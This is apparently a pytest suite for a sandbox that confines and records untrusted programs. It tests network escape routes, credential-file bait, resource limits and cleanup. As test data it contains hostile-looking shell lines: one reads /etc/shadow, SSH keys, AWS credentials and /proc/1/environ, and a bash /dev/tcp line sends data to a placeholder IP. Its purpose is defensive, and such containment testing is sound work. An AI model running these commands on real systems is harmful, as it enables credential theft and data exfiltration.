"""The cage itself: walls that hold, records that are whole, the same for root and for an ordinary user."""

import contextlib
import os
import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from assay.core.errors import UsageError
from assay.lab.cage import cage as outside
from assay.lab.cage import selftest, tools
from assay.lab.cage.cage import Cage
from assay.lab.cage.network import interfaces
from assay.lab.cage.session import CageError, Event
from assay.lab.cage.spec import HOME, CageLimits, CageSpec, Launch
from tests.lab.cage.caged import FIXTURES, PYTHON, SMALL, laid, needs_cage, ran, said

pytestmark = needs_cage
ROOT, PASSING = "/root", "/tmp/here"  # inside
# `env` in between: the right to read everything is lost by the first exec alone.
AS_USER = ("setpriv", "--reuid", "65533", "--regid", "65533", "--clear-groups", "env")


@pytest.fixture(scope="module")
def cage() -> Iterator[Cage]:
    """One session for the tests that leave nothing behind."""
    with Cage(SMALL, marker=True) as opened:
        laid(opened, "hostile.py", "routes.py")
        yield opened


def heard(lo: socket.socket) -> int:
    """Packets of the routes that this machine's own interfaces carried."""
    lo.setblocking(False)
    count = 0
    with contextlib.suppress(BlockingIOError):
        while True:
            count += b"route\x07invalid" in (frame := lo.recv(65535)) or b"marker" in frame
    return count


def hosts(events: list[dict[str, object]], kind: str = "contact") -> set[tuple[object, object]]:
    return {(event["name"] or event["destination"], event["port"]) for event in events if event["kind"] == kind}


def test_every_way_out_ends_in_the_sink_and_nothing_leaves(cage: Cage) -> None:
    outside = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) if os.geteuid() == 0 else None
    routes = ["dns", "aaaa", "http", "https", "careless", "four", "six", "udp", "quic", "icmp"]
    more = ["tcp53", "dot", "doh", "proxy", "socks", "tunnel", "abstract", "ring", "daemon"]
    ended, events = ran(cage, [PYTHON, "routes.py", *routes, *more], 20)
    assert ended.code == 0
    assert hosts(events) >= {
        ("aaaa.route.invalid", 8080), ("http.route.invalid", 80), ("https.route.invalid", 443),
        ("careless.route.invalid", 443), ("203.0.113.77", 4444), ("2001:db8:77::1", 8443),
        ("tcp53.route.invalid", 53), ("dot.route.invalid", 853), ("doh.route.invalid", 443),
        ("proxy.route.invalid", 443), ("socks.route.invalid", 6667), ("daemon.route.invalid", 7005),
    }  # fmt: skip
    assert hosts(events, "packet") == {
        ("udp.route.invalid", 123), ("icmp.route.invalid", 0), ("quic.route.invalid", 443),
    }  # fmt: skip
    names = {event["name"]: event["resolver"] for event in events if event["kind"] == "name"}
    assert names["dns.route.invalid"] == "198.51.100.53"
    assert {names[f"inside.{route}.route.invalid"] for route in ("tcp53", "dot", "doh")} == {
        f"{route}.route.invalid" for route in ("tcp53", "dot", "doh")
    }
    assert names["bwfya2vy.tunnel.route.invalid"] == "203.0.113.53"
    assert any(event["kind"] == "connect" and event["address"] == "@abstract.route.invalid" for event in events)
    checked = {event["name"]: event["accepted"] for event in events if event["kind"] == "contact"}
    assert (checked["https.route.invalid"], checked["careless.route.invalid"]) == (False, True)
    if outside is not None:
        with outside:
            assert heard(outside) == 0


def test_a_ring_is_seen_on_the_wire_or_refused_by_the_kernel(cage: Cage) -> None:
    _, events = ran(cage, [PYTHON, "routes.py", "ring"])
    assert any(event["kind"] == "refused" and event["call"] == "io_uring_setup" for event in events)
    assert ("ring.route.invalid", 7001) in hosts(events) or "io_uring:" in said(events)


@pytest.mark.parametrize("traced", [True, False])
def test_no_wall_gives_way(cage: Cage, *, traced: bool) -> None:
    _, events = ran(cage, [PYTHON, "hostile.py", "attacks"], traced=traced)
    assert said(events) == "gave way: []\n"
    refused = {(event["call"], event["argument"]) for event in events if event["kind"] == "refused"}
    assert refused >= {("bpf", 0), ("keyctl", 0), ("socket", 40), ("socket", 31), ("socket", 9)}
    powers = {event["call"] for event in events if event["kind"] == "power"}
    assert powers >= ({"unshare", "mount", "ptrace"} if traced else set())


def test_forged_lines_and_escapes_stay_what_they_are(cage: Cage) -> None:
    _, events = ran(cage, [PYTHON, "hostile.py", "escapes"])
    assert {event["program"] for event in events if event["kind"] == "exec"} == {"/usr/bin/python3", "/bin/true"}
    assert not any("forged" in str(event.get("path", "")).split("\n")[0] for event in events)
    assert any(event["name"] == "\x1b[2jx\nfrg.invalid" for event in events if event["kind"] == "name")
    paths = [change["path"] for change in cage.difference()]
    assert any(path.startswith("/tmp/a\n999 openat") for path in paths)


def test_what_forks_without_end_is_held_and_ended(cage: Cage) -> None:
    ended, events = ran(cage, [PYTHON, "hostile.py", "forks"], 1.5)
    assert {event["what"] for event in events if event["kind"] == "limit"} & {"processes", "memory"}
    assert ended.started
    assert ran(cage, ["/bin/echo", "after"])[0].code == 0


def test_what_fills_memory_is_ended(cage: Cage) -> None:
    ended, events = ran(cage, [PYTHON, "hostile.py", "memory"])
    assert (ended.over, {event["what"] for event in events if event["kind"] == "limit"}) == ("memory", {"memory"})


def test_what_ignores_every_signal_is_killed(cage: Cage) -> None:
    ended, _ = ran(cage, [PYTHON, "hostile.py", "stubborn"], 1)
    assert ended.ignored
    assert ended.left == ()


def test_what_stays_behind_is_named_and_killed(cage: Cage) -> None:
    ended, events = ran(cage, [PYTHON, "hostile.py", "detached"], 1)
    assert [Path(program).name for program in ended.left] == [Path(PYTHON).resolve().name]
    assert {(event["address"], event["port"]) for event in events if event["kind"] == "listener"} == {
        ("127.0.0.1", 7070)
    }
    assert cage.listeners() == []


def test_a_product_can_tell_that_it_is_traced_and_is_caught_at_it(cage: Cage) -> None:
    contacts = [hosts(ran(cage, [PYTHON, "hostile.py", "detects"], 2, traced=traced)[1]) for traced in (True, False)]
    assert contacts == [set(), {("only-untraced.invalid", 8443)}]


def test_no_known_protocol_is_recorded_as_it_is(cage: Cage) -> None:
    _, events = ran(cage, [PYTHON, "hostile.py", "strange"], 1.5)
    contact = next(event for event in events if event["kind"] == "contact")
    assert (contact["protocol"], contact["destination"], contact["port"]) == ("unknown", "203.0.113.88", 9999)
    assert contact["first"].startswith("\x00\x01\x02")


def test_a_file_that_only_passes_by_a_name_is_found_again(cage: Cage) -> None:
    script = "echo x > /opt/new; echo y > /etc/hosts; rm /etc/mime.types; : > /opt/gone; rm /opt/gone"
    _, events = ran(cage, ["/bin/sh", "-c", script])
    changes = {change["path"]: change["how"] for change in cage.difference()}
    assert {changes.get(path) for path in ("/opt/new", "/etc/hosts")} == {"created", "changed"}
    assert "/opt/gone" not in changes
    assert any(event["kind"] == "write" and event["path"] == "/opt/gone" for event in events)
    if Path("/etc/mime.types").exists():
        assert changes["/etc/mime.types"] == "deleted"


@pytest.mark.parametrize("traced", [True, False])
def test_who_opens_a_bait_is_seen_by_whatever_call(cage: Cage, *, traced: bool) -> None:
    script = "cat /etc/shadow ~/.ssh/id_rsa; ls -laR /home ~root/.ssh; cp ~root/.aws/credentials /tmp/x; rm /tmp/x"
    _, events = ran(cage, ["/bin/sh", "-c", script], traced=traced)
    assert {event["path"] for event in events if event["kind"] == "read"} == {
        "/etc/shadow", f"{HOME}/.ssh/id_rsa", f"{ROOT}/.aws/credentials",
    }  # fmt: skip


def test_a_bait_is_the_same_under_another_name(cage: Cage) -> None:
    script = "cd ~root/.kube; ln config /tmp/linked; cat /tmp/linked; mv ~root/.netrc /tmp/moved; cat /tmp/moved"
    _, events = ran(cage, ["/bin/sh", "-c", script], traced=False)
    assert {f"{ROOT}/.kube/config", f"{ROOT}/.netrc"} <= {event["path"] for event in events if event["kind"] == "read"}


def test_a_trace_of_opens_has_what_was_looked_for_in_vain(cage: Cage) -> None:
    script = f"cat {ROOT}/.ssh/absent; echo x > /usr/bin/ls; cat /proc/1/environ"
    for opens in (True, False):
        cage.phase(f"opens-{opens}", "traced")
        cage.run(Launch(("/bin/sh", "-c", script), opens=opens), 10)
    told = {str(event["phase"]) for event in cage.told("read", "denied") if event["path"] == f"{ROOT}/.ssh/absent"}
    assert told == {"opens-True"}
    assert any(event["path"] == "/usr/bin/ls" and event["how"] == "write" for event in cage.told("denied"))


@pytest.mark.parametrize("traced", [True, False])
def test_sockets_past_the_network_are_told_by_their_arguments(cage: Cage, *, traced: bool) -> None:
    script = """
import socket as s
for a in ((17, 3), (2, 3, 1), (10, 3 | 0o2000000, 58), (38, 5), (40, 1), (2, 2, 1), (16, 3), (1, 1), (10, 1)):
    try: s.socket(*a)
    except OSError: print(a[0], end=" ")
"""
    _, events = ran(cage, [PYTHON, "-c", script], traced=traced)
    powers = {(event["arguments"], event["error"]) for event in events if event["kind"] == "power"}
    assert powers == {("family 17", "EPERM"), ("family 2", "EPERM"), ("family 10", "EPERM")}
    assert [event["argument"] for event in events if event["kind"] == "refused"] == [40]
    assert any(event["kind"] == "kernel-crypto" for event in events)
    assert said(events).replace("38 ", "") == "17 2 10 40 "


def test_a_passing_file_is_named_by_where_its_process_is(cage: Cage) -> None:
    script = """
import os, time
os.makedirs("/tmp/here", exist_ok=True); os.makedirs("/tmp/there", exist_ok=True); os.chdir("/tmp/here")
if os.fork() == 0:
    time.sleep(0.3); open("drop", "w").close(); os.unlink("drop"); time.sleep(0.3); os._exit(0)
if os.fork() == 0:
    os.chdir("/tmp/there"); os._exit(0)
os.chdir("/opt"); os.wait(); os.wait()
"""
    _, events = ran(cage, [PYTHON, "-c", script])
    assert {event["path"] for event in events if event["kind"] == "write"} == {f"{PASSING}/drop"}


def test_no_packet_made_by_hand_passes_for_the_kernels_or_the_resolvers() -> None:
    script = """
import socket as s, struct
out = s.socket(s.AF_INET, s.SOCK_RAW, 17)
out.sendto(struct.pack(">HHHH", 53, 9999, 14, 0) + b"marker", ("203.0.113.41", 0))
out = s.socket(s.AF_INET, s.SOCK_RAW, 1)
out.sendto(b"\\3\\3" + bytes(6) + b"marker", ("203.0.113.42", 0))
try: s.gethostbyname("kernel.invalid")
except OSError: pass
closed = s.socket(s.AF_INET, s.SOCK_DGRAM); closed.sendto(b"x", ("203.0.113.43", 7))
"""
    with Cage(SMALL, raw=True) as opened:
        opened.assemble()
        _, events = ran(opened, [PYTHON, "-c", script], 5)
    seen = {(event["protocol"], event["destination"]) for event in events if event["kind"] == "packet"}
    assert seen == {("udp", "203.0.113.41"), ("icmp", "203.0.113.42"), ("udp", "203.0.113.43")}


def test_shared_memory_is_among_what_was_left(cage: Cage) -> None:
    ran(cage, ["/bin/sh", "-c", "echo x > /dev/shm/left"])
    assert any(change["path"] == "/dev/shm/left" for change in cage.difference())


def test_a_full_disk_is_the_cages_own() -> None:
    with Cage(CageLimits(disk=8 << 20, wall=10), marker=True) as small:
        laid(small, "hostile.py")
        _, events = ran(small, [PYTHON, "hostile.py", "disk"], 1)
        assert "disk: No space left on device" in said(events) or "disk: File too large" in said(events)
        assert sum(change["size"] for change in small.difference()) <= 8 << 20


def test_more_than_can_be_kept_is_said_to_be_partial() -> None:
    with Cage(CageLimits(events=200, wall=15), marker=True) as small:
        laid(small, "hostile.py")
        _, events = ran(small, [PYTHON, "hostile.py", "chatter"], 10)
        assert len(events) < 500
        assert not small.whole


def test_the_wall_clock_ends_what_lasts() -> None:
    with Cage(CageLimits(wall=1), marker=True) as short:
        laid(short, "hostile.py")
        ended, _ = ran(short, [PYTHON, "hostile.py", "stubborn"], 5)
        assert ended.over == "time"


def test_fixtures_that_imitate_malice_do_nothing_elsewhere(tmp_path: Path) -> None:
    for name in ("hostile.py", "routes.py"):
        done = subprocess.run(
            [sys.executable, FIXTURES / name, "escapes"], capture_output=True, cwd=tmp_path, check=False
        )
        assert (done.returncode, done.stdout) == (1, b"")
        assert b"only inside a cage" in done.stderr
    with Cage(SMALL) as unmarked:
        laid(unmarked, "routes.py")
        assert "only inside a cage" in said(ran(unmarked, [PYTHON, "routes.py", "four"])[1])


def test_the_host_is_not_there() -> None:
    assert interfaces() != ["lo"] or os.environ.get("CI")
    with Cage(SMALL) as opened:
        opened.assemble()
        _, events = ran(opened, ["/bin/sh", "-c", "ls /home /root /run /var/lib; env; cat /proc/1/comm; ls /in /stage"])
        text = said(events)
        assert "bwrap" in text
        for name in ("ASSAY", "PYTHONPATH", *(path.name for path in Path("/home").iterdir()), "dpkg"):
            assert name not in text.replace("app", "")


def test_a_wall_that_is_missing_stops_everything(monkeypatch: pytest.MonkeyPatch) -> None:
    """What the script says and what was recorded are kept once; each word of it is then turned, and must be a fault."""
    kept: list[tuple[Cage, dict[str, str], str, bool]] = []
    real = selftest._faults

    def spied(cage: Cage, said: dict[str, str], token: str, *, traced: bool) -> Iterator[str]:
        kept.append((cage, dict(said), token, traced))
        return real(cage, said, token, traced=traced)

    monkeypatch.setattr(selftest, "_faults", spied)
    with Cage(SMALL) as opened:
        real_difference = opened.difference
        opened.assemble()
        (_, heard, token, _), _ = kept
        monkeypatch.setattr(opened, "difference", lambda: [{"path": "/tmp/written"}])
        events: list[Event] = [{"run": "traced", **event} for event in _recorded(token)]
        opened.events = events
        assert list(real(opened, heard, token, traced=True)) == []
        for word in heard:
            turned = heard | {word: "000000000000000f" if word in ("powers", "bounding") else "open"}
            if word == "processes":
                turned[word] = "200"
            assert len(list(real(opened, turned, token, traced=True))) == 1, word
        for missing in range(len(events)):
            opened.events = events[:missing] + events[missing + 1 :]
            assert len(list(real(opened, heard, token, traced=True))) == 1, events[missing]
        opened.events = events
        monkeypatch.setattr(opened, "difference", real_difference)
        assert len(list(real(opened, heard, token, traced=True))) == 1


def _recorded(token: str) -> list[Event]:
    return [
        {"kind": "name", "name": f"{token}.invalid"},
        {"kind": "contact", "destination": "203.0.113.9", "port": 4444, "first": f"four {token}\n"},
        {"kind": "contact", "destination": "2001:db8::9", "port": 4444, "first": f"six {token}\n"},
        {"kind": "packet", "destination": "203.0.113.9", "port": 12345, "first": f"udp {token}\n"},
        {"kind": "exec", "program": "/bin/bash"},
        {"kind": "write", "path": "/tmp/passing"},
        {"kind": "read", "path": "/etc/shadow"},
        {"kind": "connect", "address": "203.0.113.9", "port": 4444},
    ]


def test_a_failed_self_test_runs_nothing_of_the_product(monkeypatch: pytest.MonkeyPatch) -> None:
    weak = selftest._SCRIPT.replace("say namespaces shut", "say namespaces open")
    monkeypatch.setattr(selftest, "_SCRIPT", weak)
    with Cage(SMALL) as opened:
        with pytest.raises(CageError, match="self-test: namespaces is 'open'"):
            opened.assemble()
        with pytest.raises(CageError, match="not tested"):
            opened.launch(Launch(("/bin/true",)))


def test_nothing_runs_in_a_cage_that_was_not_tested() -> None:
    with Cage(SMALL) as opened:
        with pytest.raises(CageError, match="not tested"):
            opened.launch(Launch(("/bin/true",)))
        monitor = opened.ask("facts")
        assert monitor["interfaces"] == ["lo"]


def test_what_is_missing_is_named_with_its_package(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tools, "PATH", "/nonexistent")
    with pytest.raises(UsageError, match="bwrap") as refused:
        Cage().__enter__()
    advice = refused.value.advice
    assert advice is not None
    for package in ("bubblewrap", "strace", "nftables", "iproute2"):
        assert package in advice.en
        assert package in advice.zh


def test_nothing_is_left_when_a_cage_is_closed() -> None:
    with Cage(SMALL) as opened:
        opened.assemble()
        opened.launch(Launch(("/bin/sleep", "600")))
        folder, keeper = opened.folder, opened._keeper.pid
        children = Path(f"/proc/{keeper}/task/{keeper}/children").read_text().split()
    assert not folder.exists()
    assert not Path(f"/proc/{keeper}").exists()
    assert not any(Path(f"/proc/{child}").exists() for child in children)


def test_a_keeper_that_dies_ends_the_session() -> None:
    with Cage(SMALL) as opened:
        opened.assemble()
        opened.launch(Launch(("/bin/sleep", "600")))
        opened._keeper.kill()
        opened._keeper.wait()
        with pytest.raises(CageError):
            opened.listeners()


def test_a_spec_survives_its_way_to_the_keeper() -> None:
    spec = CageSpec("/f", CageLimits(wall=3.5), 0, raw=True, marker=True, answers={"a.example": "198.51.100.9"})
    assert CageSpec.load(spec.dump()) == spec


def _ordinary() -> str:
    """A Python of this version that somebody who is not root may run; '' when there is none."""
    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    for program in (sys.executable, shutil.which(version, path="/usr/bin:/usr/local/bin") or ""):
        if (
            program
            and subprocess.run([*AS_USER, program, "-c", "import ssl"], capture_output=True, check=False).returncode
            == 0
        ):
            return program
    return ""


@pytest.mark.skipif(os.geteuid() != 0, reason="this is an ordinary user already")
def test_an_ordinary_user_gets_the_same_cage(tmp_path: Path) -> None:
    program = _ordinary()
    if not program:
        pytest.skip("no Python of this version that an ordinary user may run (Debian package python3)")
    script = (
        "from assay.lab.cage.cage import Cage\nfrom assay.lab.cage.spec import Launch\n"
        "with Cage() as cage:\n"
        "    cage.assemble(); cage.phase('p', 'traced')\n"
        "    say = 'exec 3<>/dev/tcp/203.0.113.7/81; echo hi >&3; id -u'\n"
        "    cage.run(Launch(('/bin/bash', '-c', say), cwd='/'), 10)\n"
        "    cage.flush()\n"
        "    print([(e['destination'], e['first']) for e in cage.told('contact')], cage.told('output')[0]['text'])\n"
    )
    paths = os.pathsep.join(path for path in sys.path if "site-packages" in path)
    source = str(Path(outside.__file__).parents[3])
    done = subprocess.run(
        [*AS_USER, program, "-c", script], check=False,
        capture_output=True, cwd="/", env={"PATH": os.environ["PATH"], "PYTHONPATH": f"{source}{os.pathsep}{paths}"},
    )  # fmt: skip
    assert done.stdout.decode() == "[('203.0.113.7', 'hi\\n')] 1000\n\n", done.stderr.decode()
